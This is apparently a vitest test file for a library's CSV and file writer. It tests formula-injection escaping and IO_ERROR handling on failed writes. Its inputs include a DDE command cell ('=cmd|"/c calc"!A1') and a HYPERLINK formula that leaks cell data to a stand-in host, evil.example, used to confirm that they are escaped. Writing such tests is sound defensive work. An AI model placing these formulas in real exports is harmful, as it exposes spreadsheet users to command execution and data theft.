import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, existsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Dictionary, Int32, Table, Utf8, vectorFromArray } from 'apache-arrow';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readTable, tableToBytes, writeTable } from '../../src/io/index';
import { writeFileChunks } from '../../src/io/write-file';
import { refusesAsync, unchangedAfterAsync } from './helpers';
import { parseCsv } from './exports-payloads';

/**
 * Files out (issue 15, classes 2 and 9): CSV formula injection and write failures. CSV output is checked with the
 * small RFC 4180 parser below, not with clientele's reader, and against OWASP's list of formula triggers.
 */

/** The fields of `text` as written (raw, quotes kept), to see which ones are quoted. */
function rawFields(text: string): string[] {
  return text.split('\n').filter((l) => l !== '');
}

/** OWASP's formula triggers: a spreadsheet runs a cell that starts with one of them. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'clientele-exports-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('class 2: CSV formula injection', () => {
  it('class 2: with escapeFormulas every OWASP trigger cell is written as quoted text behind a single quote', async () => {
    const input = { name: ['=1+2', '+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx', 'ok'], n: [1, 2, 3, 4, 5, 6, 7] };
    const { value } = await unchangedAfterAsync([input], () => tableToBytes(input, 'csv', { escapeFormulas: true }));
    expect(decode(value!)).toBe(
      'name,n\n"\'=1+2",1\n"\'+cmd",2\n"\'-2+3",3\n"\'@SUM(A1)",4\n"\'\tx",5\n"\'\rx",6\nok,7\n',
    );
  });

  it('class 2: the library default writes text exactly, so a CSV reads back unchanged (the documented round trip)', async () => {
    const names = ['=1+2', '+cmd', '-2+3', '@SUM(A1)', 'plain'];
    const bytes = await tableToBytes({ name: names, n: [1, 2, 3, 4, 5] }, 'csv');
    expect(
      parseCsv(decode(bytes))
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(names);
    const back = await readTable(bytes, { format: 'csv', columns: { name: 'string' } });
    expect(Array.from(back.getChild('name')!.toArray())).toEqual(names);
  });

  it('class 2: negative amounts in a numeric column stay numbers, and read back as Float64 with the same values', async () => {
    const amounts = [-1, -3.5, -1e-7, 2, -0.25, -1234567.891];
    const input = { customer: ['=a', '-b', '@c', 'd', '+e', 'f'], amount: amounts };
    const bytes = await tableToBytes(input, 'csv', { escapeFormulas: true });
    const rows = parseCsv(decode(bytes));
    expect(rows.slice(1).map((r) => r[1])).toEqual(amounts.map(String));
    const back = await readTable(bytes, { format: 'csv' });
    expect(String(back.schema.fields[1].type)).toBe('Float64');
    expect(Array.from(back.getChild('amount')!.toArray())).toEqual(amounts);
  });

  it('class 2: text that is a plain number (-5, +1.5e3) is not a formula and is left as it is; -2+3 is escaped', async () => {
    const bytes = await tableToBytes({ code: ['-5', '+1.5e3', '-.5', '-2+3', '-5 ', '-1e'] }, 'csv', {
      escapeFormulas: true,
    });
    expect(
      parseCsv(decode(bytes))
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(['-5', '+1.5e3', '-.5', "'-2+3", "'-5 ", "'-1e"]);
  });

  it('class 2: a column name starting with = is escaped in the header line too', async () => {
    const bytes = await tableToBytes({ '=cmd|"/c calc"!A1': ['x'], ok: [1] }, 'csv', { escapeFormulas: true });
    expect(decode(bytes).split('\n')[0]).toBe('"\'=cmd|""/c calc""!A1",ok');
  });

  it('class 2: quotes inside an escaped formula are doubled, and the field parses back to the quote-prefixed text', async () => {
    const text = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const bytes = await tableToBytes({ t: [text] }, 'csv', { escapeFormulas: true });
    expect(parseCsv(decode(bytes))[1][0]).toBe(`'${text}`);
    expect(rawFields(decode(bytes))[1].startsWith('"\'=')).toBe(true);
  });

  it('class 2: a dictionary-encoded text column is escaped like a plain one', async () => {
    const dict = vectorFromArray(['=1+1', 'ok', '=1+1'], new Dictionary(new Utf8(), new Int32()));
    const table = new Table({ d: dict });
    const bytes = await tableToBytes(table, 'csv', { escapeFormulas: true });
    expect(parseCsv(decode(bytes)).map((r) => r[0])).toEqual(['d', "'=1+1", 'ok', "'=1+1"]);
  });

  it('class 2: a negative 64-bit integer column is written as digits, never escaped', async () => {
    const table = new Table({ id: vectorFromArray([-9007199254740993n, 5n]) });
    const bytes = await tableToBytes(table, 'csv', { escapeFormulas: true });
    expect(decode(bytes)).toBe('id\n-9007199254740993\n5\n');
  });

  it('class 2: full-width ＝ and a leading line feed are escaped too', async () => {
    const bytes = await tableToBytes({ t: ['＝1+1', '\n=1+1'] }, 'csv', { escapeFormulas: true });
    expect(
      parseCsv(decode(bytes))
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(["'＝1+1", "'\n=1+1"]);
  });

  it('class 2: writeTable with escapeFormulas writes the escaped cells to the file', async () => {
    const file = join(dir, 'escaped.csv');
    const input = [{ who: '@evil', spend: -10 }];
    await unchangedAfterAsync([input], () => writeTable(input, file, { escapeFormulas: true }));
    expect(readFileSync(file, 'utf8')).toBe('who,spend\n"\'@evil",-10\n');
  });

  it('class 2: JSON and JSON lines are not spreadsheets: escapeFormulas leaves them exact', async () => {
    const input = { t: ['=1+2'] };
    expect(decode(await tableToBytes(input, 'jsonl', { escapeFormulas: true }))).toBe('{"t":"=1+2"}\n');
  });

  it('class 2: escapeFormulas that is not a boolean is INVALID_OPTION', async () => {
    const input = { t: ['=1'] };
    const options = { escapeFormulas: 'yes' };
    await refusesAsync(
      [input, options],
      () => tableToBytes(input, 'csv', options as never),
      'INVALID_OPTION',
      'tableToBytes: option escapeFormulas must be true or false (found "yes")',
    );
  });

  it('class 2: an inherited escapeFormulas is not an option (own properties only)', async () => {
    const options = Object.create({ escapeFormulas: true }) as object;
    expect(decode(await tableToBytes({ t: ['=1'] }, 'csv', options))).toBe('t\n=1\n');
  });

  it('class 2: property — no escaped CSV field starts with a trigger unless it is a plain number; text and numbers survive', async () => {
    const triggerText = fc
      .tuple(fc.constantFrom(...TRIGGERS, '', 'a', '"', ','), fc.string({ maxLength: 8 }))
      .map(([head, tail]) => head + tail);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ t: triggerText, x: fc.double({ noNaN: true, noDefaultInfinity: true }) }), {
          minLength: 1,
          maxLength: 12,
        }),
        async (rows) => {
          const input = { t: rows.map((r) => r.t), x: rows.map((r) => r.x) };
          const rowsBefore = JSON.stringify(rows);
          const parsed = parseCsv(
            decode(await tableToBytes(input, 'csv', { escapeFormulas: true, significantDigits: 'full' })),
          );
          expect(JSON.stringify(rows)).toBe(rowsBefore);
          expect(parsed.length).toBe(rows.length + 1);
          rows.forEach((r, i) => {
            const [t, x] = parsed[i + 1];
            const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(r.t);
            const live = TRIGGERS.some((c) => r.t.startsWith(c)) || r.t.startsWith('\n');
            expect(t).toBe(live && !plainNumber ? `'${r.t}` : r.t);
            expect(Number(x)).toBe(Object.is(r.x, -0) ? 0 : r.x);
          });
        },
      ),
      { numRuns: 2 * (fc.readConfigureGlobal().numRuns ?? 100) },
    );
  });
});

describe('class 9: writing fails with IO_ERROR naming the path and the system code', () => {
  const table = { customer: ['a', 'b'], amount: [1, -2] };

  it.each([
    ['csv', 'full.csv'],
    ['parquet', 'full.parquet'],
    ['arrow', 'full.arrow'],
    ['jsonl', 'full.jsonl'],
  ])(
    'class 9: ENOSPC writing %s (a link to /dev/full) is IO_ERROR naming the path and ENOSPC',
    async (_format, name) => {
      const link = join(dir, name);
      if (!existsSync(link)) symlinkSync('/dev/full', link);
      const e = await refusesAsync(
        [table],
        () => writeTable(table, link),
        'IO_ERROR',
        `writeTable: cannot write ${JSON.stringify(link)} (found ENOSPC: no space left on the device)`,
        'free some space',
      );
      expect(e.message).not.toContain('\n');
      // the device is not a regular file: it is not removed
      expect(existsSync('/dev/full')).toBe(true);
    },
  );

  it('class 9: /dev/full named with { format } is IO_ERROR ENOSPC', async () => {
    await refusesAsync(
      [table],
      () => writeTable(table, '/dev/full', { format: 'csv' }),
      'IO_ERROR',
      '"/dev/full" (found ENOSPC',
    );
  });

  it('class 9: a directory as the target is IO_ERROR EISDIR', async () => {
    const folder = join(dir, 'folder.csv');
    mkdirSync(folder, { recursive: true });
    await refusesAsync([table], () => writeTable(table, folder), 'IO_ERROR', `${JSON.stringify(folder)} (found EISDIR`);
  });

  it('class 9: a missing folder is IO_ERROR ENOENT', async () => {
    const path = join(dir, 'no', 'such', 'x.csv');
    await refusesAsync([table], () => writeTable(table, path), 'IO_ERROR', `${JSON.stringify(path)} (found ENOENT`);
  });

  it('class 9: a path through a regular file is IO_ERROR ENOTDIR', async () => {
    const file = join(dir, 'plain.txt');
    writeFileSync(file, 'x');
    await refusesAsync([table], () => writeTable(table, join(file, 'x.csv')), 'IO_ERROR', '(found ENOTDIR');
  });

  it('class 9: a folder the system will not write into (/sys) is IO_ERROR with the system code', async () => {
    const e = await refusesAsync(
      [table],
      () => writeTable(table, '/sys/clientele-x.csv'),
      'IO_ERROR',
      '"/sys/clientele-x.csv"',
    );
    expect(e.message).toMatch(/\(found E[A-Z]+/);
  });

  it('class 9: a path with a newline writes the file; a failure names it on one line with \\n escaped', async () => {
    const ok = join(dir, 'new\nline.csv');
    await writeTable(table, ok);
    expect(readFileSync(ok, 'utf8')).toBe('customer,amount\na,1\nb,-2\n');
    const bad = join(dir, 'no\nfolder', 'x.csv');
    const e = await refusesAsync([table], () => writeTable(table, bad), 'IO_ERROR', 'no\\nfolder');
    expect(e.message).not.toContain('\n');
  });

  it('class 9: a NUL byte in the path is IO_ERROR, not a raw TypeError', async () => {
    await refusesAsync([table], () => writeTable(table, join(dir, 'nul\0.csv')), 'IO_ERROR', 'NUL');
  });

  it('class 9: a write that fails part-way leaves no half-written file, and the encoder error passes as it is', async () => {
    const file = join(dir, 'partial.csv');
    const boom = new Error('encoder failed');
    async function* chunks() {
      yield new TextEncoder().encode('a,b\n1,2\n');
      throw boom;
    }
    await expect(writeFileChunks(file, chunks(), 'writeTable')).rejects.toBe(boom);
    expect(existsSync(file)).toBe(false);
  });

  it('class 9: a write failing with a system code part-way is IO_ERROR and removes the partial file', async () => {
    const file = join(dir, 'partial-os.csv');
    async function* chunks() {
      yield new TextEncoder().encode('a,b\n');
      throw Object.assign(new Error('disk gone'), { code: 'EIO' });
    }
    await refusesAsync(
      [],
      () => writeFileChunks(file, chunks(), 'writeTable'),
      'IO_ERROR',
      '(found EIO: input/output error)',
    );
    expect(existsSync(file)).toBe(false);
  });

  it('class 9: a .tsv path is written with tabs (it was written with commas) and reads back', async () => {
    const file = join(dir, 'out.tsv');
    await writeTable({ name: ['a,b', 'c'], n: [1, -2] }, file);
    expect(readFileSync(file, 'utf8')).toBe('name\tn\na,b\t1\nc\t-2\n');
    const back = await readTable(file);
    expect(Array.from(back.getChild('name')!.toArray())).toEqual(['a,b', 'c']);
  });

  it('class 9: a delimiter that can occur in a number (.) is INVALID_OPTION', async () => {
    const options = { delimiter: '.' };
    await refusesAsync(
      [table, options],
      () => writeTable(table, join(dir, 'x.csv'), options as never),
      'INVALID_OPTION',
      "option delimiter must be one of ',', ';', '|' or a tab",
    );
  });

  it('class 9: a semicolon delimiter quotes text holding it and keeps negative decimals', async () => {
    const bytes = await tableToBytes({ t: ['a;b', 'c'], x: [-1.5, 2] }, 'csv', { delimiter: ';' });
    expect(decode(bytes)).toBe('t;x\n"a;b";-1.5\nc;2\n');
    expect(parseCsv(decode(bytes), ';')).toEqual([
      ['t', 'x'],
      ['a;b', '-1.5'],
      ['c', '2'],
    ]);
  });
});
